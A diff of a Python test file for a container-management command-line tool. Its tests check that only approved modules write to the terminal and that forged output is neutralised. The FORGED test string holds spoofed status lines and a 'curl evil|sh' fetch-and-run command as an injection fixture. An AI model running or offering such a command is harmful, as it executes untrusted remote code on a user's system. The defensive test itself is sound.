@@ -19,7 +19,7 @@ from tests.toy_server import Served, Toy, served
 
 FORGED = "on)\n  2  restart container db (0123456789ab, running) on h1\u2028error: nas: hacked\r\nhint:  curl evil|sh"
 ROW = {"id": "1" * 12, "name": "web", "image": "x", "status": "Up", "health": "", "ports": [], "created": ""}
-WRITERS = {"output", "screen", "interrupts", "process", "completing", "lines", "run", "execute", "host", "operator"}
+WRITERS = {"output", "live", "interrupts", "process", "completing", "lines", "run", "execute", "host", "operator"}
 """Modules of the commands that write to a stream themselves: the two doors, and those that print only words of ours."""
 
 
@@ -118,7 +118,7 @@ def test_only_the_doors_write_to_the_terminal() -> None:
             (isinstance(node.func, ast.Name) and node.func.id == "print")
             or (
                 isinstance(node.func, ast.Attribute)
-                and node.func.attr == "write"
+                and node.func.attr in ("write", "print")
                 and ast.unparse(node.func.value) != "formatter"
             )
         )
